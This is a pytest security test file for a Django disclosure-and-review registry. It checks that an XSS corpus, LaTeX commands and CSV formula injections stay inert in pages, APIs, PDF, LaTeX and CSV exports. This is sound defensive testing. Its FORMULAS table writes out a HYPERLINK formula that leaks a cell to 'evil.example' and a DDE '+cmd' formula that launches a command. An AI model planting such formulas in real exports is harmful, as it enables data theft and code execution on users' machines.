"""The XSS corpus in every disclosure, comment, review and checklist text: inert on every
disclosure and venue page, as data in the API, as text in the PDF packet (fetching nothing),
escaped in the LaTeX statement and defused in CSV exports."""

from __future__ import annotations

import csv
import io
import json
import re
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, HTTPServer

import pytest

from emissions.models import Disclosure, DisclosureComment
from registry.workflow import audit
from tests.factories.emissions import DisclosureFactory
from tests.factories.venues import (
    ChecklistAnswerFactory,
    RecomputationFactory,
    ReviewAssignmentFactory,
    ReviewFactory,
    conference_venue,
)
from tests.security.corpus import (
    SHORT_PAYLOADS,
    XSS_PAYLOADS,
    assert_inert,
    assert_shows_markers,
)
from venues.models import Venue

pytestmark = pytest.mark.django_db

ALL_TEXT = "\n\n".join(p.text for p in XSS_PAYLOADS)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _CountingHandler(BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - http.server's naming
        self.hits.append(self.path)
        self.send_response(200)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def internal_host() -> Iterator[tuple[str, list[str]]]:
    """An HTTP server on the loopback interface, counting the requests it receives."""
    hits: list[str] = []
    handler = type("Handler", (_CountingHandler,), {"hits": hits})
    server = HTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", hits
    server.shutdown()
    server.server_close()


@dataclass
class HostilePaper:
    venue: Venue
    disclosure: Disclosure
    verified: Disclosure


def hostile_fields(planted_url: str) -> dict[str, object]:
    return {
        "model_name": f"{XSS_PAYLOADS[-1].text} {XSS_PAYLOADS[0].text}"[:200],
        "model_version": SHORT_PAYLOADS[1].text[:100],
        "organisation": SHORT_PAYLOADS[2].text[:200],
        "paper_title": " ".join(p.text for p in XSS_PAYLOADS[3:9])[:500],
        "paper_authors": [p.text[:200] for p in SHORT_PAYLOADS],
        "doi": SHORT_PAYLOADS[3].text[:200],
        "tool_name": SHORT_PAYLOADS[4].text[:100],
        "justification": f'{ALL_TEXT}\n<img src="{planted_url}/img">'
        f'<link rel=stylesheet href="{planted_url}/css">',
    }


@pytest.fixture
def hostile_paper(world, internal_host) -> HostilePaper:  # noqa: ANN001
    planted_url, _ = internal_host
    venue = conference_venue(name=SHORT_PAYLOADS[6].text[:200])
    venue.chairs.add(world.chair)
    venue.reviewers.add(world.reviewer)
    world.researcher.organisation = SHORT_PAYLOADS[7].text[:200]
    world.researcher.save()
    disclosure = DisclosureFactory(
        owner=world.researcher,
        venue=venue,
        venue_submission_id=SHORT_PAYLOADS[5].text[:100],
        state="in_review",
        assigned_reviewer=world.reviewer,
        **hostile_fields(planted_url),
    )
    RecomputationFactory(disclosure=disclosure)
    assignment = ReviewAssignmentFactory(disclosure=disclosure, reviewer=world.reviewer)
    review = ReviewFactory(assignment=assignment, comments=ALL_TEXT)
    for item in venue.checklist_items.all():
        ChecklistAnswerFactory(review=review, item=item, answer="no", justification=ALL_TEXT)
    DisclosureComment.objects.create(disclosure=disclosure, author=world.reviewer, body=ALL_TEXT)
    audit(
        actor=world.reviewer,
        subject=disclosure,
        action="request_changes",
        from_state="in_review",
        to_state="in_review",
        reason=ALL_TEXT,
    )
    verified = DisclosureFactory(
        owner=world.researcher, state="verified", **hostile_fields(planted_url)
    )
    RecomputationFactory(disclosure=verified)
    return HostilePaper(venue=venue, disclosure=disclosure, verified=verified)


def page(client, url: str) -> str:  # noqa: ANN001
    response = client.get(url)
    assert response.status_code == 200, url
    html = response.content.decode()
    assert_inert(html)
    return html


def test_it_keeps_the_corpus_inert_on_the_public_pages(client, hostile_paper):
    page(client, "/disclosures/")
    html = page(client, f"/disclosures/{hostile_paper.verified.pk}/")
    assert_shows_markers(html)


def test_it_keeps_the_corpus_inert_on_the_owners_pages(client, world, hostile_paper):
    client.force_login(world.researcher)
    page(client, "/disclosures/mine/")
    html = page(client, f"/disclosures/{hostile_paper.disclosure.pk}/")
    assert_shows_markers(html)


def test_it_keeps_the_corpus_inert_on_the_reviewers_pages(client, world, hostile_paper):
    client.force_login(world.reviewer)
    page(client, "/disclosures/review/")
    html = page(client, f"/disclosures/review/{hostile_paper.disclosure.pk}/")
    assert_shows_markers(html)
    slug, pk = hostile_paper.venue.slug, hostile_paper.disclosure.pk
    page(client, f"/venues/{slug}/")
    page(client, f"/venues/{slug}/papers/{pk}/review/")


def test_it_keeps_the_corpus_inert_on_the_chairs_pages(client, world, hostile_paper):
    client.force_login(world.chair)
    slug, pk = hostile_paper.venue.slug, hostile_paper.disclosure.pk
    page(client, "/venues/")
    page(client, f"/venues/{slug}/")
    page(client, f"/venues/{slug}/assignments/")
    page(client, f"/venues/{slug}/exports/")
    html = page(client, f"/venues/{slug}/papers/{pk}/")
    assert_shows_markers(html)


def test_it_serves_the_corpus_as_json_data(client, world, hostile_paper):
    client.force_login(world.chair)
    for url in (
        "/api/v1/disclosures/",
        f"/api/v1/disclosures/{hostile_paper.disclosure.pk}/",
        f"/api/v1/venues/{hostile_paper.venue.slug}/papers/{hostile_paper.disclosure.pk}/reviews/",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"] == "application/json", url
        json.loads(response.content)


def export(client, paper: HostilePaper, fmt: str) -> bytes:  # noqa: ANN001
    response = client.get(f"/venues/disclosures/{paper.disclosure.pk}/export/{fmt}/")
    assert response.status_code == 200, fmt
    # The file name is built from the hostile submission id: it must stay one plain token.
    assert re.fullmatch(
        r'attachment; filename="[A-Za-z0-9._-]+"', response["Content-Disposition"]
    ), response["Content-Disposition"]
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_it_prints_the_corpus_as_text_in_the_pdf_without_fetching(
    client, world, hostile_paper, internal_host
):
    from tests.venues.exports.helpers import pdf_text

    _, hits = internal_host
    client.force_login(world.chair)
    text = pdf_text(export(client, hostile_paper, "pdf"))
    assert "xssscripttag" in text
    assert hits == []


@pytest.mark.parametrize("fmt", ["tex", "txt"])
def test_it_escapes_latex_commands_in_the_statement(client, world, hostile_paper, fmt):
    client.force_login(world.chair)
    tex = export(client, hostile_paper, fmt).decode()
    if fmt != "tex":
        assert "xsslatex" in tex
        return
    assert "xsslatex" in tex
    assert "\\input{" not in tex
    assert "\\write18{" not in tex


FORMULAS = {
    "model_name": '=HYPERLINK("https://evil.example/?leak="&A1,"xssformula")',
    "paper_title": '+cmd|" /C calc"!A0 xssformula',
    "venue_submission_id": "@SUM(1+1) xssformula",
    "organisation": "-2+3 xssformula",
}


def test_it_defuses_formulas_in_the_venue_summary_csv(client, world, hostile_paper):
    Disclosure.objects.filter(pk=hostile_paper.disclosure.pk).update(**FORMULAS)
    client.force_login(world.chair)
    response = client.get(f"/venues/{hostile_paper.venue.slug}/summary.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row if "xssformula" in cell]
    assert len(cells) >= 2
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []


def snapshot_formula_cells(root) -> dict[str, list[str]]:  # noqa: ANN001
    """Cells holding a planted formula, by folder: the registry's own files and the AIID set."""
    from datasets.aiid import AIID_FOLDER
    from datasets.snapshot import export_snapshot
    from tests.factories.incidents import IncidentFactory, ReportFactory

    incident = IncidentFactory(title=FORMULAS["model_name"], description=FORMULAS["paper_title"])
    report = ReportFactory(title=FORMULAS["venue_submission_id"], text=FORMULAS["organisation"])
    report.incidents.add(incident)
    export_snapshot(root)
    cells: dict[str, list[str]] = {"registry": [], "aiid": []}
    for path in root.rglob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            found = [c for row in csv.reader(handle) for c in row if "xssformula" in c]
        cells["aiid" if AIID_FOLDER in path.parts else "registry"] += found
    return cells


@pytest.mark.django_db(transaction=True)
def test_it_defuses_formulas_in_the_dataset_snapshot_csv(tmp_path):
    cells = snapshot_formula_cells(tmp_path / "snapshot")
    assert len(cells["registry"]) == 4
    assert [c for c in cells["registry"] if c.startswith(FORMULA_STARTS)] == []


@pytest.mark.django_db(transaction=True)
def test_it_defuses_formulas_in_the_aiid_compatible_snapshot_csv(tmp_path):
    cells = snapshot_formula_cells(tmp_path / "snapshot")
    assert len(cells["aiid"]) == 4
    assert [c for c in cells["aiid"] if c.startswith(FORMULA_STARTS)] == []


def test_it_serves_the_json_export_as_json(client, world, hostile_paper):
    client.force_login(world.chair)
    response = client.get(f"/venues/{hostile_paper.venue.slug}/summary.json")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert_shows_markers(response.content.decode(), XSS_PAYLOADS[3:9])
